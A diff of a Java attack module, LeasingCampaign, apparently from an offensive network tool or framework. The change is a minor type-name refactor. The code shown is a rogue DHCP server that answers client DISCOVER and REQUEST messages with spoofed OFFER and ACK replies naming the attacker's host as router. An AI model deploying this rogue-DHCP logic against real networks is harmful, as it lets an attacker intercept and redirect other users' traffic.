@@ -3,7 +3,6 @@ package cofferdam.attacks.network;
 import cofferdam.attacks.Attack;
 import cofferdam.monitor.address.Ipv4Address;
 import cofferdam.monitor.packet.DhcpMessage;
-import cofferdam.monitor.packet.DhcpMessage.Type;
 import cofferdam.monitor.packet.Ipv4Packet;
 import cofferdam.monitor.packet.UdpDatagram;
 
@@ -95,20 +94,20 @@ final class LeasingCampaign implements Attack.Campaign {
     private void answer(DhcpMessage asked) {
         switch (asked.type()) {
             case DISCOVER -> {
-                send(Type.OFFER, asked);
+                send(DhcpMessage.Type.OFFER, asked);
                 for (int times = 0; times < HASTY; times++) {
                     foothold.agenda()
                             .after(
                                     FIRST_HASTE.multipliedBy(1L << times),
-                                    () -> send(Type.ACK, asked));
+                                    () -> send(DhcpMessage.Type.ACK, asked));
                 }
             }
-            case REQUEST -> send(Type.ACK, asked);
+            case REQUEST -> send(DhcpMessage.Type.ACK, asked);
             case OFFER, DECLINE, ACK, NAK, RELEASE, INFORM -> {}
         }
     }
 
-    private void send(Type type, DhcpMessage asked) {
+    private void send(DhcpMessage.Type type, DhcpMessage asked) {
         Ipv4Address own = foothold.protocol();
         byte[] data = message(type, asked).toBytes();
         byte[] payload = new UdpDatagram(
@@ -126,7 +125,7 @@ final class LeasingCampaign implements Attack.Campaign {
                         .toFrame(asked.clientHardware(), foothold.hardware()));
     }
 
-    private DhcpMessage message(Type type, DhcpMessage asked) {
+    private DhcpMessage message(DhcpMessage.Type type, DhcpMessage asked) {
         Map<Integer, byte[]> options = new TreeMap<>();
         options.put(DhcpMessage.SERVER_IDENTIFIER, DhcpMessage.value(foothold.protocol()));
         options.put(DhcpMessage.ROUTER, DhcpMessage.value(foothold.protocol()));
